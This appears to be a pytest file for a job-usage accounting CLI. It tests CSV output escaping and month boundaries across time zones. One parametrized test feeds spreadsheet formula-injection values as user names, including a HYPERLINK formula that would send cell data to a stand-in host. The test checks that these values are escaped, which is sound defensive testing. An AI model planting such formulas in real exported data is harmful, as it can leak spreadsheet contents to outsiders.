"""What jobs have used, as `wps-cwl accounting` prints it."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from wps_cwl import bootstrap
from wps_cwl.cli.accounting import accounting
from wps_cwl.model import ExecuteRequest, Job, JobState, StepUsage
from wps_cwl.settings import Settings

MIDNIGHT = datetime(2026, 3, 1, tzinfo=UTC)


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    made = Settings(state=tmp_path / "state", processes=(tmp_path,))
    bootstrap.upgrade_database(made)
    return made


def use(settings: Settings, id: str, ended: datetime, *, user: str = "ann") -> None:
    job = Job(id, "p", JobState.SUCCESSFUL, ended, ended, ExecuteRequest("p"), finished=ended, user=user)
    bootstrap.usage_store(settings).put(job, (StepUsage("s", "slurm", cores=1, wall=2.0),))


def told(settings: Settings, *arguments: str) -> list[dict[str, str]]:
    found = CliRunner(env={"WPS_CWL_STATE": str(settings.state)}).invoke(accounting, [*arguments, "--format", "csv"])
    assert found.exit_code == 0, found.output
    return list(csv.DictReader(io.StringIO(found.output)))


@pytest.mark.parametrize("user", ['=HYPERLINK("http://x/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1"])
def test_no_name_is_a_formula_to_a_spreadsheet(settings: Settings, user: str) -> None:
    use(settings, "j1", MIDNIGHT, user=user)
    [row] = told(settings, "--by", "user")
    assert (row["user"], row["core_seconds"]) == (f"'{user}", "2.0")


@pytest.mark.parametrize("zone", ["UTC", "Pacific/Auckland", "America/Los_Angeles"])
def test_a_month_is_the_same_by_its_days_and_by_its_name(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, zone: str
) -> None:
    use(settings, "before", MIDNIGHT - timedelta(seconds=1))
    use(settings, "first", MIDNIGHT)
    use(settings, "last", MIDNIGHT + timedelta(days=31, seconds=-1))
    use(settings, "after", MIDNIGHT + timedelta(days=31))
    monkeypatch.setenv("TZ", zone)
    time.tzset()
    try:
        march = told(settings, "--by", "job", "--since", "2026-03-01", "--until", "2026-04-01")
        assert {row["job"] for row in march} == {"first", "last"}
        assert [row["jobs"] for row in told(settings, "--by", "month")] == ["1", "2", "1"]
    finally:
        monkeypatch.undo()
        time.tzset()
